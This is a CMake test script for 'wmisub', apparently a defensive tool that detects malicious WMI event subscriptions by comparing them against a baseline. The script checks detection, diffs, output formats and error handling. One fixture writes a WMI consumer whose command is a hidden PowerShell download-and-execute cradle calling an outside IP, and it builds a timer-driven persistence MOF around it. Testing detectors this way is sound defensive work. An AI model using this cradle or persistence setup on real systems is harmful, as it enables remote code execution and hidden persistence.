# The wmisub CLI end to end, as a responder uses it: baseline, diff, a consumer
# that keeps its name but changes its command, scan against the baseline,
# collect and scan a snapshot as NDJSON, a damaged baseline, usage errors, and
# every subcommand's --help. Run with:
#   cmake -DWMISUB=<wmisub binary> -DWORK_DIR=<scratch dir> -P tests/cli_workflow.cmake
file(REMOVE_RECURSE "${WORK_DIR}")
file(MAKE_DIRECTORY "${WORK_DIR}")

# Runs wmisub with ARGN; checks the exit status and that stdout+stderr contain each of EXPECT.
function(run_wmisub expected_status)
    cmake_parse_arguments(PARSE_ARGV 1 ARG "" "" "ARGS;EXPECT;REJECT")
    execute_process(COMMAND "${WMISUB}" ${ARG_ARGS} WORKING_DIRECTORY "${WORK_DIR}"
                    OUTPUT_VARIABLE out ERROR_VARIABLE err RESULT_VARIABLE status)
    set(all "${out}${err}")
    if(NOT status STREQUAL "${expected_status}")
        message(FATAL_ERROR "wmisub ${ARG_ARGS}: exit ${status}, expected ${expected_status}\n${all}")
    endif()
    foreach(text IN LISTS ARG_EXPECT)
        string(FIND "${all}" "${text}" at)
        if(at EQUAL -1)
            message(FATAL_ERROR "wmisub ${ARG_ARGS}: output lacks '${text}'\n${all}")
        endif()
    endforeach()
    foreach(text IN LISTS ARG_REJECT)
        string(FIND "${all}" "${text}" at)
        if(NOT at EQUAL -1)
            message(FATAL_ERROR "wmisub ${ARG_ARGS}: output should not contain '${text}'\n${all}")
        endif()
    endforeach()
    set(last_output "${out}" PARENT_SCOPE)
endfunction()

# An administrator's job: inventory every 4 hours through a vendor agent.
function(write_mof command)
    file(WRITE "${WORK_DIR}/host.mof" "#pragma namespace(\"\\\\\\\\.\\\\root\\\\subscription\")
instance of __IntervalTimerInstruction { TimerId = \"InvTimer\"; IntervalBetweenEvents = 14400000; };
instance of __EventFilter as $F { Name = \"Inventory\"; EventNamespace = \"root\\\\cimv2\"; QueryLanguage = \"WQL\";
    Query = \"SELECT * FROM __TimerEvent WHERE TimerID = 'InvTimer'\"; };
instance of CommandLineEventConsumer as $C { Name = \"Inventory\"; CommandLineTemplate = \"${command}\"; };
instance of __FilterToConsumerBinding { Filter = $F; Consumer = $C; };
")
endfunction()

write_mof("C:\\\\\\\\Program Files\\\\\\\\Contoso\\\\\\\\invagent.exe --refresh")
run_wmisub(0 ARGS baseline --mof host.mof -o baseline.json EXPECT "wrote 4 objects")
run_wmisub(0 ARGS diff --baseline baseline.json --mof host.mof EXPECT "0 added, 0 removed, 0 modified")
run_wmisub(0 ARGS scan --mof host.mof --baseline baseline.json EXPECT "(allow-listed)")

# Same names, new payload: one modified consumer, graded, and the field named.
write_mof("powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')")
run_wmisub(1 ARGS diff --baseline baseline.json --mof host.mof
           EXPECT "1 modified" "CommandLineTemplate" "CommandLineEventConsumer.Name=\"Inventory\"" "[critical]")
run_wmisub(0 ARGS diff --baseline baseline.json --mof host.mof --fail-on never)
run_wmisub(1 ARGS diff --baseline baseline.json --mof host.mof --format json EXPECT "\"schema\": \"wmisub.diff/1\"" "\"severity\": \"critical\"")
run_wmisub(1 ARGS scan --mof host.mof --baseline baseline.json EXPECT "WMISUB-BSL-001" "WMISUB-PAY-001" "was: C:")
run_wmisub(0 ARGS scan --mof host.mof --fail-on never -q EXPECT "== CRITICAL (1) ==" REJECT "wmisub scan:")

# Collect, then judge the snapshot; NDJSON lines carry ECS names.
run_wmisub(0 ARGS collect --mof host.mof -o snapshot.json -q)
run_wmisub(1 ARGS scan --snapshot snapshot.json --format ndjson --host WS01
           EXPECT "\"kind\":\"alert\"" "\"rule\":{\"id\":\"WMISUB-PAY-001\"" "\"host\":{\"name\":\"WS01\"}" "\"subtechnique\":{\"id\":[\"T1546.003\"]}")
run_wmisub(1 ARGS scan --snapshot snapshot.json --format json EXPECT "\"schema\": \"wmisub.report/1\"" "\"kind\": \"interval_timer\"")

# A damaged baseline is an error, never an empty baseline.
file(READ "${WORK_DIR}/baseline.json" baseline)
string(LENGTH "${baseline}" length)
math(EXPR half "${length} / 2")
string(SUBSTRING "${baseline}" 0 ${half} truncated)
file(WRITE "${WORK_DIR}/truncated.json" "${truncated}")
run_wmisub(2 ARGS diff --baseline truncated.json --mof host.mof EXPECT "corrupt")
string(REPLACE "invagent.exe" "evil.exe" edited "${baseline}")
file(WRITE "${WORK_DIR}/edited.json" "${edited}")
run_wmisub(2 ARGS scan --mof host.mof --baseline edited.json EXPECT "checksum")

# Usage errors: one line, exit 2.
run_wmisub(2 ARGS scan --mof host.mof --bogus EXPECT "unknown option '--bogus'")
run_wmisub(2 ARGS scan --mof missing.mof EXPECT "missing.mof")
run_wmisub(2 ARGS scan --events log.evtx EXPECT "--events")
run_wmisub(2 ARGS scan --mof host.mof --format xml EXPECT "unknown format 'xml'")
run_wmisub(2 ARGS diff --mof host.mof EXPECT "missing --baseline")
run_wmisub(2 ARGS frobnicate EXPECT "unknown command 'frobnicate'")

# Every subcommand answers --help with its usage.
foreach(command scan collect baseline diff wql rules)
    run_wmisub(0 ARGS ${command} --help EXPECT "usage: wmisub")
endforeach()
run_wmisub(0 ARGS --version EXPECT "wmisub 0.")
message(STATUS "wmisub CLI workflow: all checks passed")
